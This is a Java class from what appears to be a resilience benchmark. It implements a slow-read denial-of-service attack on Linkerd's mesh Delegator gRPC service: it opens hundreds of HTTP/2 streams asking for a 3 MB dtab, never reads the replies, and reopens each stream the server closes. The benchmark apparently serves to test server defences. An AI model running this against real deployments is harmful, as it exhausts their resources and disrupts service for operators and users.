package io.dtabd.bench.attack;

import io.dtabd.bench.attack.MeshConnection.Frame;
import io.dtabd.bench.load.Http2Bytes;
import java.io.IOException;
import java.net.SocketTimeoutException;
import java.time.Duration;

/**
 * Asks for a dtab of 3 MB over gRPC, on many streams of a connection, and lets the server send
 * nothing of it. A stream that the server ends is followed by another.
 *
 * @param connections at the same time
 * @param streams of each
 */
record MeshUnread(Target target, String method, int connections, int streams) implements Attack {

  private static final String DELEGATOR = "/io.linkerd.mesh.Delegator/";

  /** Before a stream that was ended is followed by another. */
  private static final Duration PAUSE = Duration.ofMillis(10);

  static MeshUnread calls(Target target) {
    return new MeshUnread(target, DELEGATOR + "GetDtab", 4, 100);
  }

  static MeshUnread streams(Target target) {
    return new MeshUnread(target, DELEGATOR + "StreamDtab", 1, 400);
  }

  @Override
  public int attackers() {
    return connections;
  }

  @Override
  public void once(int attacker, Tally tally) throws IOException, InterruptedException {
    byte[] request = MeshConnection.dtabRequest(Tables.LARGE);
    int stream = 1;
    try (var connection = MeshConnection.open(target.meshAddress(), 0)) {
      for (int i = 0; i < streams; i++) {
        connection.send(Http2Bytes.call(stream, method, request));
        stream += 2;
        tally.taken();
      }
      long deadline = System.nanoTime() + HOLD.toNanos();
      while (System.nanoTime() - deadline < 0) {
        Frame frame = connection.next();
        if (frame.type() == Http2Bytes.GOAWAY) {
          tally.refused();
          return;
        }
        if (frame.endsStream()) {
          tally.refused();
          Thread.sleep(PAUSE);
          connection.send(Http2Bytes.call(stream, method, request));
          stream += 2;
          tally.taken();
        }
      }
    } catch (SocketTimeoutException e) {
      // The server has held all of it for as long as it is to be held.
    }
  }
}
